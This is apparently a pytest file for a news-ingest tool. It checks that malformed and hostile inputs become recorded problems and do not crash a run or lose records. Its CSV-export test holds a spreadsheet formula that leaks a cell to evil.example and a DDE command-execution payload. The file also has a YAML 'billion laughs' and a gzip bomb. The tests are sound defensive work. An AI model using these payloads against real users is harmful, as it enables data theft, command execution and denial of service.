"""Issue 10: records never lost, hostile input harmless.

Each test holds an input shaped like the real one that broke storylens (written here, not
copied): JSON Lines with a long first record, pages whose top misled detection, gzipped
inputs, a lone surrogate escape, deep nesting, a YAML "billion laughs", formula cells in a CSV
export, oversized uploads. All run through the real readers, the real pipeline and real SQLite.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from storylens.cli.app import app
from storylens.config import Settings, load_settings
from storylens.ingest import find_sources, read_source
from storylens.ingest.sources import Source
from storylens.models import Problem, RawItem
from storylens.pipeline import ingest
from storylens.store import Store

LIMIT = 50_000_000
runner = CliRunner()

SENTENCES = [
    "The county council voted on Tuesday to close the Old Mill bridge for eight months of"
    " repairs, after engineers found corrosion in two of its steel girders.",
    "Traffic will be sent through the town centre, adding about 20 minutes to journeys at"
    " peak times, the council's transport officer told the meeting.",
    "Shop owners on Mill Street said they feared losing trade, and asked for free parking in"
    " the town's two car parks while the work goes on.",
    "The repairs are expected to cost 4.2 million pounds, most of it from a national fund"
    " for ageing bridges, with the rest from the council's own budget.",
]


def long_record(n: int, words: int = 900) -> dict[str, object]:
    """A news record like those of real exports: a long body (5 KB and more) first."""
    body = " ".join(SENTENCES * (words // 100 + 1))[: words * 6]
    return {
        "id": f"r{n}",
        "title": f"Old Mill bridge to close for repairs, part {n}",
        "text": f"{body} Report number {n}.",
        "source": "Town Courier",
        "published": f"2024-03-0{n % 9 + 1}",
        "url": f"https://courier.example/news/bridge-{n}",
    }


def write(folder: Path, name: str, content: str | bytes) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    return path


def read(path: Path, max_bytes: int | None = LIMIT) -> list[RawItem | Problem]:
    [source] = list(find_sources([str(path)]))
    assert isinstance(source, Source)
    return list(read_source(source, max_bytes))


def stored_origins(store: Store) -> set[str]:
    rows = store.conn.execute("SELECT origin FROM articles UNION SELECT origin FROM sightings")
    return {r[0] for r in rows}


def problem_origins(store: Store) -> dict[str, str]:
    rows = store.conn.execute("SELECT origin, reason FROM problems")
    return {r[0]: r[1] for r in rows}


# --- 1. JSON Lines decided on whole lines --------------------------------------------------------


@pytest.mark.parametrize("name", ["export", "export.txt", "export.jsonl", "export.json"])
def test_json_lines_with_a_first_record_over_4_kb_are_read_line_by_line(
    tmp_path: Path, name: str
) -> None:
    records = [long_record(n) for n in range(5)]
    lines = [json.dumps(r) for r in records]
    assert len(lines[0]) > 4096
    found = read(write(tmp_path, name, "\n".join(lines) + "\n"))
    assert [type(f).__name__ for f in found] == ["RawItem"] * 5, found
    assert [f.title for f in found if isinstance(f, RawItem)] == [r["title"] for r in records]


def test_one_json_object_on_one_line_is_still_a_document(tmp_path: Path) -> None:
    doc = {"status": "ok", "articles": [long_record(1), long_record(2)]}
    found = read(write(tmp_path, "newsapi", json.dumps(doc)))
    assert [f.format for f in found if isinstance(f, RawItem)] == ["json", "json"]


def gold_file(folder: Path, records: list[dict[str, object]]) -> Path:
    labelled = [{**r, "label": "bridge" if n % 2 else "mill"} for n, r in enumerate(records)]
    return write(folder, "gold.jsonl", "\n".join(json.dumps(r) for r in labelled) + "\n")


def test_eval_clusters_scores_a_gold_file_whose_first_record_is_long(tmp_path: Path) -> None:
    gold = gold_file(tmp_path, [long_record(n) for n in range(6)])
    result = runner.invoke(app, ["eval", "clusters", str(gold), "--no-baselines", "--json"])
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert (report["documents"], report["stored"]) == (6, 6)


def test_eval_clusters_refuses_to_score_records_that_were_not_stored(tmp_path: Path) -> None:
    records = [long_record(n) for n in range(6)]
    records[2]["published"] = "2999-01-01"  # a date in the future: the record is refused
    records[4]["published"] = "the 45th of Smarch"
    result = runner.invoke(app, ["eval", "clusters", str(gold_file(tmp_path, records))])
    assert result.exit_code == 1
    assert "only 4 of 6 records were stored, so nothing was scored" in str(result.exception)
    assert "record 3:" in str(result.exception) and "record 5:" in str(result.exception)
    assert "B³" not in result.stdout


def test_eval_clusters_keeps_records_without_text_alone_and_says_so(tmp_path: Path) -> None:
    records = [long_record(n) for n in range(6)]
    records[3]["text"] = ""  # ECB+ holds two such records: no method can cluster them
    gold = str(gold_file(tmp_path, records))
    result = runner.invoke(app, ["eval", "clusters", gold, "--no-baselines", "--json"])
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert (report["documents"], report["stored"]) == (6, 5)


# --- 4. format detection on real page shapes ------------------------------------------------------

PAGE = """<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Old Mill bridge to close for repairs | Town Courier</title>
<!--
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
         xmlns:dc="http://purl.org/dc/elements/1.1/"
         xmlns:trackback="http://madskills.com/public/xml/rss/module/trackback/">
<rdf:Description rdf:about="https://courier.example/news/bridge"
    dc:title="Old Mill bridge to close for repairs"
    trackback:ping="https://courier.example/mt-tb.cgi/1187" />
</rdf:RDF>
-->
</head>
<body>
<div id="nav"><a href="/">Home</a> | <a href="/news">News</a></div>
<div class="entry">
<h1>Old Mill bridge to close for repairs</h1>
{paragraphs}
</div>
</body>
</html>
"""


def page(doctype: bool = True, html_tag: bool = True) -> str:
    text = PAGE.format(paragraphs="\n".join(f"<p>{s}</p>" for s in SENTENCES))
    if not doctype:
        text = text.replace("<!DOCTYPE html>\n", "")
    if not html_tag:
        text = text.replace('<html lang="en">\n', "").replace("</html>\n", "")
    return text


XHTML_1 = (
    '<?xml version="1.0" encoding="utf-8"?>\n'
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN"'
    ' "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">\n'
)


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(page().encode(), id="commented-out-rdf"),
        pytest.param(b"\xef\xbb\xbf\xef\xbb\xbf" + page().encode(), id="bom-written-twice"),
        pytest.param(b"?" + page().encode(), id="stray-question-mark"),
        pytest.param(
            ('<?xml version="1.0" encoding="utf-8"?>\n' + page(doctype=False, html_tag=False))
            .replace("<rdf:RDF", "<rdf:RDF")
            .encode(),
            id="xml-line-without-html",
        ),
        pytest.param((XHTML_1 + page(doctype=False)).encode(), id="xml-line-and-xhtml-doctype"),
    ],
)
def test_pages_whose_top_misled_detection_are_read_as_html(tmp_path: Path, content: bytes) -> None:
    [item] = read(write(tmp_path, "bridge.html", content))
    assert isinstance(item, RawItem), item
    assert item.format == "html"
    text = " ".join(p.text for p in item.paragraphs)
    assert "<" not in text and "rdf" not in text  # the text, not the raw markup
    assert "corrosion in two of its steel girders" in text
    assert item.title == "Old Mill bridge to close for repairs"


def test_a_feed_is_still_a_feed_and_html_in_its_items_does_not_matter(tmp_path: Path) -> None:
    feed = (
        '<?xml version="1.0"?>\n<rss version="2.0"><channel><title>Town Courier</title>'
        "<item><title>Bridge to close</title><link>https://courier.example/b</link>"
        "<description><![CDATA[<html><body><p>The bridge will close.</p></body></html>]]>"
        "</description></item></channel></rss>"
    )
    [item] = read(write(tmp_path, "feed.xml", feed))
    assert isinstance(item, RawItem) and item.format == "rss"


# --- 6. gzip -------------------------------------------------------------------------------------


def test_gzipped_pages_and_exports_are_read(tmp_path: Path) -> None:
    lines = "\n".join(json.dumps(long_record(n)) for n in range(3)) + "\n"
    pages = read(write(tmp_path, "bridge.html.gz", gzip.compress(page().encode())))
    export = read(write(tmp_path, "export.jsonl.gz", gzip.compress(lines.encode())))
    unnamed = read(write(tmp_path, "download", gzip.compress(page().encode())))  # magic only
    two_members = read(
        write(tmp_path, "two.jsonl.gz", gzip.compress(lines.encode()) + gzip.compress(b"\n"))
    )
    assert [i.format for i in pages if isinstance(i, RawItem)] == ["html"]
    assert [i.format for i in export if isinstance(i, RawItem)] == ["jsonl"] * 3
    assert [i.format for i in unnamed if isinstance(i, RawItem)] == ["html"]
    assert len(two_members) == 3
    assert all(
        "read from gzip-compressed data" in i.notes for i in export if isinstance(i, RawItem)
    )


def test_damaged_and_bomb_gzip_inputs_are_problems(tmp_path: Path) -> None:
    whole = gzip.compress(page().encode())
    [cut] = read(write(tmp_path, "cut.html.gz", whole[: len(whole) // 2]))
    assert (
        isinstance(cut, Problem) and cut.reason == "gzip data is cut short (the file is incomplete)"
    )
    bomb = gzip.compress(b"<p>" + b" " * 3_000_000 + b"</p>")  # 3 KB that expand to 3 MB
    assert len(bomb) < 10_000
    [refused] = read(write(tmp_path, "bomb.html.gz", bomb), max_bytes=1_000_000)
    assert isinstance(refused, Problem)
    assert refused.reason == "gzip data expands to over 1 MB, the limit for this input"


# --- 8. one bad input never stops the run --------------------------------------------------------


def good_report(n: int) -> str:
    return f"date 2024-03-0{n % 9 + 1}\n\n{SENTENCES[n % 4]} Report {n} of the batch.\n"


def hostile_batch(folder: Path, good: int) -> dict[str, str]:
    """``good`` dateline reports and the hostile files of issue 10 item 8; name → kind."""
    for n in range(good):
        write(folder, f"good{n:03}.txt", good_report(n))
    fine = json.dumps(long_record(1))
    bad = {
        # a lone surrogate escape in the title, in the text, and in a field kept in extra
        "surrogate_title.jsonl": fine + "\n" + '{"title": "Bridge \\udfff", "text": "Body."}',
        "surrogate_text.json": '{"title": "Bridge", "text": "Closed \\ud800 today."}',
        "surrogate_extra.jsonl": '{"title": "Bridge", "text": "Closed.", "tag": "\\udfff"}',
        # nested deeper than anything a report holds: within json's limit, past pickle's
        "deep.jsonl": '{"title": "T", "text": "Body.", "x": ' + "[" * 900 + "]" * 900 + "}",
        "deeper.json": '{"title": "T", "text": "Body.", "x": ' + "[" * 50_000 + "]" * 50_000,
        "deep.md": "---\ntitle: T\nx: " + "[" * 900 + "]" * 900 + "\n---\nBody text.\n",
    }
    for name, content in bad.items():
        write(folder, name, content)
    return bad


@pytest.mark.parametrize("workers", [1, 2])
def test_lone_surrogates_and_deep_nesting_become_problems_and_the_batch_lands(
    tmp_path: Path, workers: int
) -> None:
    folder = tmp_path / "batch"
    bad = hostile_batch(folder, good=70)  # over 64 inputs: read in worker processes
    settings = load_settings(environ={}, overrides={"ingest.workers": workers})
    with Store(tmp_path / "s.db") as store:
        report = ingest(store, [str(folder)], settings)
        stored, problems = stored_origins(store), problem_origins(store)
    assert {f"{folder}/good{n:03}.txt" for n in range(70)} <= stored
    assert f"{folder}/surrogate_title.jsonl#0" in stored  # the good line beside the bad one
    for name in bad:
        assert str(folder / name) in problems, (name, problems)
    assert "lone surrogate (\\udfff)" in problems[str(folder / "surrogate_title.jsonl")]
    assert "lone surrogate (\\ud800)" in problems[str(folder / "surrogate_text.json")]
    assert "lone surrogate (\\udfff)" in problems[str(folder / "surrogate_extra.jsonl")]
    assert "nested" in problems[str(folder / "deep.jsonl")]
    assert report.counts.added == 71 and report.counts.problems == len(bad)


def test_a_feed_with_a_surrogate_character_reference_is_read(tmp_path: Path) -> None:
    """Found by benchmarks/fuzz_ingest.py: feedparser turns ``&#xD800;`` into a character it
    then cannot encode (UnicodeEncodeError out of ``feedparser.parse``)."""
    feed = (
        '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel>'
        "<title>Town Courier</title><item><title>Bridge &#xD800; to close</title>"
        "<link>https://courier.example/b</link><description>The Old Mill bridge will close"
        " for repairs &#55296; on Tuesday.</description></item>"
        "<item><title>Second</title><description>Fine text.</description></item>"
        "</channel></rss>"
    )
    first, second = read(write(tmp_path, "feed.xml", feed))
    assert isinstance(first, RawItem) and first.title == "Bridge \ufffd to close"
    assert first.paragraphs[0].text.startswith("The Old Mill bridge will close for repairs")
    assert isinstance(second, RawItem) and second.title == "Second"


def test_a_file_name_that_is_not_utf8_is_stored_readably(tmp_path: Path) -> None:
    folder = tmp_path / "names"
    folder.mkdir()
    with open(bytes(folder) + b"/bridge\xff.txt", "w", encoding="utf-8") as f:
        f.write(good_report(1))
    with Store(tmp_path / "s.db") as store:
        ingest(store, [str(folder)], load_settings(environ={}))
        assert stored_origins(store) == {f"{folder}/bridge\ufffd.txt"}


# --- 12. billion laughs and field caps ------------------------------------------------------------

LAUGHS = """---
title: Bridge
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
---
The bridge will close for repairs.
"""


def test_yaml_aliases_in_front_matter_are_refused(tmp_path: Path, settings: Settings) -> None:
    assert len(LAUGHS.encode()) < 500
    write(tmp_path / "in", "laughs.md", LAUGHS)
    write(tmp_path / "in", "fine.md", "---\ntitle: Bridge\n---\nThe bridge will close.\n")
    with Store(tmp_path / "s.db") as store:
        ingest(store, [str(tmp_path / "in")], settings)
        problems = problem_origins(store)
        biggest = store.conn.execute("SELECT max(length(extra)) FROM articles").fetchone()[0]
    assert problems[str(tmp_path / "in" / "laughs.md")].startswith(
        "front matter uses a YAML alias (*a) at line 4: aliases are refused"
    )
    assert biggest < 1000


def test_an_anchor_without_alias_is_read(tmp_path: Path) -> None:
    [item] = read(write(tmp_path, "a.md", "---\ntitle: &t Bridge & road\n---\nBody text.\n"))
    assert isinstance(item, RawItem) and item.title == "Bridge & road"


@pytest.mark.parametrize(
    ("record", "reason"),
    [
        ({"title": "T" * 20_000, "text": "Body."}, "the title is 20,000 characters, over the cap"),
        ({"title": "T", "text": "word " * 300_000}, "the text is 1,499,999 characters, over"),
        ({"title": "T", "text": "Body.", "x": ["y" * 1000] * 2000}, "the other fields hold over"),
        (
            {"title": "T", "text": "Body.", "tags": list(range(200_000))},
            "the other fields hold over 100,000",
        ),
    ],
)
def test_fields_over_their_cap_are_problems(
    tmp_path: Path, record: dict[str, object], reason: str
) -> None:
    lines = [json.dumps(long_record(1)), json.dumps(record)]
    good, refused = read(write(tmp_path, "x.jsonl", "\n".join(lines)))
    assert isinstance(good, RawItem)
    assert isinstance(refused, Problem) and refused.item == 1
    assert refused.reason.startswith(reason), refused.reason


def test_the_field_cap_is_a_setting(tmp_path: Path) -> None:
    write(tmp_path / "in", "a.jsonl", json.dumps(long_record(1)))
    settings = load_settings(environ={}, overrides={"ingest.max_field_chars": 1000})
    with Store(tmp_path / "s.db") as store:
        report = ingest(store, [str(tmp_path / "in")], settings)
    assert report.counts.added == 0
    assert report.problems[0].reason.startswith("the text is ")
    assert report.problems[0].detail.startswith("Raise ingest.max_field_chars")


# --- 14. CSV export escapes formula cells ---------------------------------------------------------


def test_csv_export_escapes_cells_a_spreadsheet_would_run(tmp_path: Path) -> None:
    hostile = {
        "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full report")',
        "text": "=cmd|' /C calc'!A0\n\n@SUM(1+1)*cmd|' /C calc'!A0\n\nThe bridge closes.",
        "source": "+Town Courier",
        "author": "-2+3",
        "published": "2024-03-01",
        "description": "\tTabbed=1+1",
    }
    plain = {**long_record(2)}
    write(tmp_path / "in", "x.jsonl", json.dumps(hostile) + "\n" + json.dumps(plain) + "\n")
    db = tmp_path / "s.db"
    with Store(db) as store:
        ingest(store, [str(tmp_path / "in")], load_settings(environ={}))
    out = tmp_path / "all.csv"
    result = runner.invoke(app, ["export", "--db", str(db), "--format", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    for row in rows:
        for key, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (key, cell)
    evil = next(r for r in rows if "HYPERLINK" in r["title"])
    assert evil["title"].startswith("'=HYPERLINK(")
    assert evil["body"].startswith("'=cmd|")
    assert evil["outlet"] == "'+Town Courier"
    fine = next(r for r in rows if r is not evil)
    assert fine["title"] == plain["title"] and fine["outlet"] == "Town Courier"
    # the export reads back as it was: the escape is taken off again by the CSV reader
    with Store(tmp_path / "again.db") as again:
        ingest(again, [str(out)], load_settings(environ={}))
        back = again.conn.execute("SELECT title, outlet FROM articles").fetchall()
    assert (hostile["title"], "+Town Courier") in [tuple(r) for r in back]


# --- 12. uploads over the limit ------------------------------------------------------------------


def test_uploads_over_the_limit_are_refused_with_413(tmp_path: Path) -> None:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        from fastapi.testclient import TestClient

    from storylens.web.app import create_app

    db = tmp_path / "w.db"
    write(tmp_path / "in", "a.txt", good_report(1))
    with Store(db) as store:
        ingest(store, [str(tmp_path / "in")], load_settings(environ={}))
    settings = load_settings(environ={}, overrides={"store.path": str(db), "ingest.max_file_mb": 1})
    web = create_app(settings)
    auth = {"Authorization": f"Bearer {web.state.web.write_token()}"}
    api = "/api/v1/ingest"
    with TestClient(web, base_url="http://127.0.0.1:8000", headers=auth) as client:
        big = client.post(f"{api}/file", files={"file": ("big.txt", b"word " * 400_000)})
        assert big.status_code == 413, big.text
        assert big.json()["error"]["code"] == "too_large"
        assert "ingest.max_file_mb" in big.json()["error"]["message"]

        def chunks() -> object:  # no Content-Length: the body is counted as it arrives
            yield b'{"title": "T", "text": "'
            for _ in range(40):
                yield b"w" * 50_000
            yield b'"}'

        streamed = client.post(
            f"{api}/article", content=chunks(), headers={"Content-Type": "application/json"}
        )
        assert streamed.status_code == 413, streamed.text
        # a body just over the file limit but inside the form's room: the route says 413 too
        edge = client.post(f"{api}/file", files={"file": ("edge.txt", b"w" * 1_010_000)})
        assert edge.status_code == 413, edge.text
        small = client.post(f"{api}/file", files={"file": ("ok.txt", good_report(2))})
        assert small.status_code == 200 and small.json()["added"] == 1


# --- 9. a killed ingest is found interrupted ------------------------------------------------------


def test_a_run_killed_with_sigkill_is_marked_interrupted_and_stats_and_problems_say_so(
    tmp_path: Path,
) -> None:
    folder = tmp_path / "many"
    for n in range(800):
        write(folder, f"r{n:04}.txt", good_report(n) + f"\nNumber {n} of many.\n")
    db = tmp_path / "kill.db"
    env = {**os.environ, "STORYLENS_INGEST_BATCH_SIZE": "20", "STORYLENS_INGEST_WORKERS": "1"}
    cmd = [sys.executable, "-m", "storylens", "ingest", str(folder), "--db", str(db), "--json"]
    proc = subprocess.Popen(cmd, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 180  # a shared machine may be slow to start it
    stored = 0
    while time.monotonic() < deadline and proc.poll() is None:
        time.sleep(0.05)
        try:
            conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
            stored = conn.execute("SELECT count(*) FROM articles").fetchone()[0]
            conn.close()
        except sqlite3.Error:
            continue
        if stored >= 40:
            break
    assert proc.poll() is None, "ingest finished before it could be killed"
    assert stored >= 40, "ingest stored too little to be killed mid-way"
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    # the run's own record names its process: pid and start time
    conn = sqlite3.connect(db)
    pid, start = conn.execute("SELECT pid, process_start FROM runs").fetchone()
    conn.close()
    assert pid == proc.pid and (start is None or start.endswith(tuple("0123456789")))

    stats = runner.invoke(app, ["stats", "--db", str(db), "--json"])
    assert stats.exit_code == 0
    [run] = json.loads(stats.stdout)["interrupted_runs"]
    assert run["id"] == 1 and run["inputs"] == [str(folder)] and run["added"] >= 40
    problems = runner.invoke(app, ["problems", "--db", str(db)])
    assert "Run 1 (ingest, started" in problems.output and "was interrupted" in problems.output
    assert f"storylens ingest {folder}" in problems.output.replace("\n", "")
    # … and the web app's problems page
    from fastapi.testclient import TestClient

    from storylens.web.app import create_app

    with TestClient(create_app(db), base_url="http://127.0.0.1:8000") as client:
        page = client.get("/problems").text
    assert "Interrupted runs" in page and f"storylens ingest {folder}" in page

    # the same command again completes it, and the warning goes
    subprocess.run(cmd, env=env, capture_output=True, check=True)
    again = runner.invoke(app, ["stats", "--db", str(db), "--json"])
    assert json.loads(again.stdout)["interrupted_runs"] == []
    assert json.loads(again.stdout)["articles"] == 800


def test_a_pid_given_to_another_process_does_not_keep_a_killed_run_running(
    tmp_path: Path,
) -> None:
    from storylens.store.db import process_start

    if process_start(os.getpid()) is None:
        pytest.skip("this system does not show process start times (no /proc)")
    db = tmp_path / "reuse.db"
    with Store(db):
        pass
    other = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        conn = sqlite3.connect(db)
        insert = (
            "INSERT INTO runs (command, pid, process_start, inputs, started_at)"
            " VALUES ('ingest', ?, ?, '[\"in\"]', '2026-01-01T00:00:00+00:00')"
        )
        # run 1 was killed; its pid now belongs to another, living process: started later
        conn.execute(insert, (other.pid, "an-earlier-boot:12345"))
        # run 2 is really running, in that process
        conn.execute(insert, (other.pid, process_start(other.pid)))
        conn.commit()
        conn.close()
        with Store(db) as store:
            status = dict(store.conn.execute("SELECT id, status FROM runs").fetchall())
        assert status == {1: "interrupted", 2: "running"}
    finally:
        other.kill()
        other.wait()
    with Store(db) as store:  # now that process is gone too
        assert store.conn.execute("SELECT status FROM runs WHERE id=2").fetchone()[0] == (
            "interrupted"
        )
